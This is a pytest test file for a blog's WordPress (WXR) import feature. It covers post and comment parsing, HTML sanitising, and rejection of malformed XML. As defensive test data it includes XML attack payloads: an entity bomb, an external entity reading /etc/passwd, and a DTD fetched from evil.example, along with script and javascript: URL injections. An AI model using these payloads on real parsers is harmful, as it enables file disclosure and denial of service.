"""WordPress' exports: what is read of them, what becomes of it, and what is refused."""

from __future__ import annotations

import io
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fedblog.archive.paragraphs import paragraphs
from fedblog.archive.report import Report
from fedblog.archive.taking import Taker
from fedblog.archive.wxr_read import read_wxr
from fedblog.archive.wxr_write import cdata, comment, item_start
from fedblog.errors import Conflict, InvalidInput
from fedblog.federation.services import Services
from fedblog.storage import posts, replies, threads
from tests.archive.entries import entries, skipped
from tests.archive.world import author_id, blog, everything, outgoing

HEAD = """<?xml version="1.0" encoding="UTF-8" ?>
<!-- This is a WordPress eXtended RSS file. -->
<rss version="2.0" xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/"
 xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"
 xmlns:wp="http://wordpress.org/export/1.2/"><channel>
<title>Old blog</title><link>https://old.example</link><wp:wxr_version>1.2</wp:wxr_version>
"""


def wxr(*items: str) -> io.BytesIO:
    return io.BytesIO((HEAD + "".join(items) + "</channel></rss>").encode())


def item(number: int = 7, inside: str = "", *, body: str = "Hello", status: str = "publish", kind: str = "post") -> str:
    return f"""<item><title>Title {number}</title><link>https://old.example/2019/05/title-{number}/</link>
<pubDate>Wed, 01 May 2019 10:00:00 +0000</pubDate><dc:creator><![CDATA[alice]]></dc:creator>
<guid isPermaLink="false">https://old.example/?p={number}</guid>
<content:encoded>{cdata(body)}</content:encoded><excerpt:encoded><![CDATA[ A lede ]]></excerpt:encoded>
<wp:post_id>{number}</wp:post_id><wp:post_date_gmt>2019-05-01 10:00:00</wp:post_date_gmt>
<wp:post_name>title-{number}</wp:post_name><wp:status>{status}</wp:status><wp:post_type>{kind}</wp:post_type>
<category domain="category" nicename="uncategorized"><![CDATA[Uncategorized]]></category>
<category domain="post_tag" nicename="two-words"><![CDATA[two words]]></category>
{inside}</item>"""


def note(
    number: int, parent: int = 0, text: str = "A comment", *, approved: str = "1", kind: str = "comment",
    date: str = "2019-05-02 10:00:00", author: str = "Bob", url: str = "https://bob.example/",
) -> str:  # fmt: skip
    return f"""<wp:comment><wp:comment_id>{number}</wp:comment_id><wp:comment_author>{cdata(author)}</wp:comment_author>
<wp:comment_author_email>bob@secret.example</wp:comment_author_email>
<wp:comment_author_url>{escape(url)}</wp:comment_author_url>
<wp:comment_date_gmt>{date}</wp:comment_date_gmt><wp:comment_content>{cdata(text)}</wp:comment_content>
<wp:comment_approved>{approved}</wp:comment_approved><wp:comment_type>{kind}</wp:comment_type>
<wp:comment_parent>{parent}</wp:comment_parent></wp:comment>"""


async def take(services: Services, file: io.BytesIO, **options: bool | str) -> Report:
    report = Report(dry_run=bool(options.pop("dry_run", False)))
    await Taker(services, report, **options).take(read_wxr(file))  # type: ignore[arg-type]
    return report


def test_LIFE_01_wxr_reads_posts_pages_tags_and_paths() -> None:
    (post, page) = entries(read_wxr(wxr(item(7), item(8, kind="page"))))
    assert (post.title, post.slug, post.summary, post.author) == ("Title 7", "title-7", "A lede", "alice")
    assert post.published_at == 1_556_704_800
    assert post.tags == ("two words",)
    assert post.paths == ("/2019/05/title-7/", "/?p=7")
    assert not post.draft
    assert (post.kind, page.kind, page.title) == ("post", "page", "Title 8")


def test_LIFE_01_wxr_says_what_it_leaves_out() -> None:
    found = wxr(item(1, kind="attachment"), item(2, kind="product"), item(3, status="trash"))
    assert skipped(read_wxr(found)) == ["attachment", "product", "post in status trash"]


@pytest.mark.parametrize("status", ["draft", "pending", "future", "private"])
def test_LIFE_01_wxr_what_was_not_out_becomes_a_draft(status: str) -> None:
    (found,) = entries(read_wxr(wxr(item(1, status=status))))
    assert found.draft


def test_LIFE_01_wxr_a_password_makes_a_draft() -> None:
    (found,) = entries(read_wxr(wxr(item(1, "<wp:post_password>x</wp:post_password>"))))
    assert found.draft
    assert found.warnings == ("it was not open to everybody, so it becomes a draft",)


def test_LIFE_01_wxr_odd_dates_are_guessed_and_told() -> None:
    zero = item(1).replace("2019-05-01 10:00:00", "0000-00-00 00:00:00")
    (by_rss,) = entries(read_wxr(wxr(zero)))
    assert by_rss.published_at == 1_556_704_800
    local = zero.replace("<pubDate>Wed, 01 May 2019 10:00:00 +0000</pubDate>", "<pubDate>Mon, 30 Nov -0001</pubDate>")
    local = local.replace("<wp:post_name>", "<wp:post_date>2019-05-01 12:00:00</wp:post_date><wp:post_name>")
    (by_local,) = entries(read_wxr(wxr(local)))
    assert by_local.published_at == 1_556_712_000
    assert by_local.warnings == ("its date has no time zone; it is taken as UTC",)
    (none,) = entries(read_wxr(wxr(local.replace("2019-05-01 12:00:00", "2019-02-31 12:00:00"))))
    assert none.published_at is None


def test_LIFE_01_wxr_character_data_of_every_kind() -> None:
    """Split sections, a section's own end, entities beside sections, characters that XML has no place for."""
    body = "a ]]> b &amp; <em>c</em> ]]]]><![CDATA["
    (found,) = entries(read_wxr(wxr(item(1, body=body))))
    assert found.source == f"<p>{body}</p>"
    mixed = item(1).replace(
        "<![CDATA[Hello]]>", "&lt;p&gt;one<![CDATA[ & two]]> &#233;\x0b\x00</p>".replace("</p>", "&lt;/p&gt;")
    )
    (found,) = entries(read_wxr(wxr(mixed)))
    assert found.source == "<p>one & two é</p>"


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_LIFE_01_wxr_whatever_is_written_is_read_back(text: str) -> None:
    kept = "".join(char for char in text if char in "\t\n\r" or (ord(char) >= 32 and char not in "\ufffe\uffff"))
    kept = kept.replace("\r\n", "\n").replace("\r", "\n")
    written = item_start(
        number=1, guid="g", url="https://a.example/", title="T", author="a", slug="s", content="x", summary="",
        tags=(), published=True, comments_open=True, kind="post", published_at=1, created_at=1, edited_at=None,
    )  # fmt: skip
    one = comment(number=1, parent=0, author="A" + text, author_url="", content="c", published_at=1, uri="")
    (found,) = entries(read_wxr(wxr(written + one + "</item>\n")))
    assert found.comments[0].author == " ".join(("A" + kept).split())


def test_LIFE_01_wordpress_paragraphs() -> None:
    assert paragraphs("one\r\ntwo\n\n\nthree") == "<p>one<br>\ntwo</p>\n<p>three</p>"
    assert paragraphs("<h2>x</h2>\n\n<pre>a\n\nb</pre>\n\ny") == "<h2>x</h2>\n<pre>a\n\nb</pre>\n<p>y</p>"
    assert paragraphs("<!-- wp:paragraph -->\n<p>x</p>\n<!-- /wp:paragraph -->") == "<p>x</p>"
    assert paragraphs('[caption id="1"]<img src="a.png"> words[/caption]') == '<p><img src="a.png"> words</p>'


async def test_LIFE_01_wxr_comments_keep_their_nesting_dates_and_names(tmp_path: Path) -> None:
    """Children before their parents in the file, a missing parent, a circle, odd dates; nobody is told."""
    inside = (
        note(3, 2, "third", author="Eve")
        + note(1, 0, "first\n\nparagraph <script>x</script>")
        + note(2, 1, "second", author="Carol", url="javascript:alert(1)")
        + note(4, 99, "lost", date="0000-00-00 00:00:00")
        + note(5, 6, "circle")
        + note(6, 5, "circle too")
        + note(7, 7, "itself")
        + note(8, 0, "spam", approved="spam")
        + note(9, 0, "ping", kind="pingback")
        + note(10, 0, "waiting", approved="0")
    )
    async with blog(tmp_path / "b") as services:
        report = await take(services, wxr(item(7, inside)))
        (post,) = (await everything(services))["posts"]
        rows = await services.db.read(threads.thread, post[0])
        told = {row.reply.content_html: (row.actor.name, row.reply.depth) for row in rows}
        assert told["<p>third</p>"] == ("Eve", 3)
        assert told["<p>second</p>"] == ("Carol", 2)
        assert next(told[html] for html in told if "paragraph" in html) == ("Bob", 1)
        assert not any("script" in html for html in told)
        assert told["<p>lost</p>"] == ("Bob", 1)
        assert len(rows) == 7
        assert all(row.reply.imported and not row.reply.local for row in rows)
        assert all(row.actor.url in ("https://bob.example/", "") for row in rows)
        assert report.counts == {"posts": 1, "comments": 8}
        words = "\n".join(report.warnings)
        for expected in (
            "answers 99, which is not in the file",
            "in a circle",
            "1 comments left out: spam",
            "pingback",
        ):
            assert expected in words
        assert await services.db.read(lambda tx: tx.value("SELECT count(*) FROM replies WHERE state = 'held'")) == 1
        assert post[11] == 1_556_704_800
        assert await outgoing(services) == 0
        assert "secret" not in str(await everything(services))
        before = await everything(services)
        again = await take(services, wxr(item(7, inside)))
        assert await everything(services) == before
        assert again.counts == {"posts_already_here": 1, "comments_already_here": 8}


async def test_LIFE_01_wxr_a_cut_off_run_goes_on(tmp_path: Path) -> None:
    async with blog(tmp_path / "b") as services:
        with pytest.raises(InvalidInput, match="line"):
            await take(services, io.BytesIO((HEAD + item(1, note(1)) + item(2)[:400]).encode()))
        assert [post[3] for post in (await everything(services))["posts"]] == ["Title 1"]
        report = await take(services, wxr(item(1, note(1) + note(2, 1)), item(2)))
        assert report.counts["posts"] == 1
        assert (report.counts["comments"], report.counts["comments_already_here"]) == (1, 1)


async def test_LIFE_01_imported_comments_are_in_no_collection_and_nobody_answers_them(tmp_path: Path) -> None:
    async with blog(tmp_path / "b") as services:
        await take(services, wxr(item(1, note(1))))
        (post,) = (await everything(services))["posts"]
        assert post[12] == 1
        assert await services.db.read(lambda tx: threads.public_uris(tx, post[0], limit=9)) == []
        assert await services.db.read(lambda tx: threads.count_children(tx, post_id=post[0])) == 0
        assert await services.db.read(threads.count_imported, post[0]) == 1
        comment_id = post[-1][0][0]
        alice = await author_id(services)
        with pytest.raises(Conflict, match="came from a file"):
            await services.publisher.answer(author_id=alice, source="Hi", reply_id=comment_id)
        with pytest.raises(Conflict, match="came from a file"):
            await services.publisher.like_reply(comment_id, author_id=alice)
        await services.publisher.hide_reply(comment_id)
        found = await services.db.read(replies.by_id, comment_id)
        assert found is not None
        assert not found.shown


async def test_LIFE_01_wxr_html_is_cleaned_and_made_absolute(tmp_path: Path) -> None:
    body = '<p onclick="x">See <a href="/about">me</a> <script>alert(1)</script><img src="/pic.png" alt="P"></p>'
    async with blog(tmp_path / "b") as services:
        report = await take(services, wxr(item(1, body=body)))
        (post,) = (await everything(services))["posts"]
        stored = await services.db.read(posts.by_id, post[0])
        assert stored is not None
        assert 'href="https://old.example/about"' in stored.content_html
        assert "script" not in stored.content_html + stored.source
        assert "onclick" not in stored.content_html + stored.source
        assert "twoWords" in stored.tags
        assert any("1 pictures stay on other servers" in words for words in report.warnings)


async def test_LIFE_01_wxr_dry_run_and_unknown_author(tmp_path: Path) -> None:
    async with blog(tmp_path / "b", authors=("zoe", "yan")) as services:
        with pytest.raises(InvalidInput, match="nobody here is called “alice”"):
            await take(services, wxr(item(1)))
        report = await take(services, wxr(item(1, note(1))), author="zoe", dry_run=True)
        assert report.counts == {"posts": 1, "comments": 1}
        assert (await everything(services))["posts"] == []


BILLION = """<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><rss><channel><title>&c;</title></channel></rss>"""
EXTERNAL = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>&x;</title></channel></rss>'
PARAMETER = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss><channel/></rss>'
)


@pytest.mark.parametrize("text", [BILLION, EXTERNAL, PARAMETER, '<!DOCTYPE rss SYSTEM "x.dtd"><rss/>'])
def test_LIFE_01_xml_with_a_document_type_is_refused(text: str) -> None:
    """Entity bombs and external entities: refused before the first one could be used."""
    with pytest.raises(InvalidInput, match="document type or entities"):
        list(read_wxr(io.BytesIO(text.encode())))


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("<rss><channel>" + "<a>" * 100, "nested too deep"),
        ("<rss><channel><item>&nbsp;</item></channel></rss>", "no readable XML"),
        ("<rss><channel><item>", "no readable XML"),
        ("<html><body>Hello</body></html>", "no WordPress export"),
        ('<?xml version="1.0" encoding="utf-16"?><rss><channel>\udcff', "no readable XML"),
    ],
)
def test_LIFE_01_broken_xml_is_refused_with_its_line(text: str, words: str) -> None:
    with pytest.raises(InvalidInput, match=words):
        list(read_wxr(io.BytesIO(text.encode("utf-8", "surrogateescape"))))


def test_LIFE_01_an_endless_item_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("fedblog.archive.xml_reader.MAX_ITEM", 100_000)
    with pytest.raises(InvalidInput, match="too large"):
        list(read_wxr(wxr(item(1, body="x" * 200_000))))


@pytest.mark.parametrize("head", [b"<x ", b"<x a='", b"<!-- ", b"<x><y a='1' ", b"<"])
def test_LIFE_01_a_tag_without_an_end_is_refused(monkeypatch: pytest.MonkeyPatch, head: bytes) -> None:
    """The parser would hold all of it, to the last byte of the file."""
    monkeypatch.setattr("fedblog.archive.xml_reader.MAX_TOKEN", 300_000)
    filling = b" a%d='1'" if b"<x" in head else b"a%d "
    endless = b"<rss><channel>" + head + b"".join(filling % number for number in range(100_000))
    with pytest.raises(InvalidInput, match=r"too large|readable"):
        list(read_wxr(io.BytesIO(endless)))


@given(st.binary(max_size=300))
def test_LIFE_01_any_bytes_are_read_or_refused(data: bytes) -> None:
    with pytest.raises(InvalidInput):
        list(read_wxr(io.BytesIO(b"<rss><channel>" + data)))
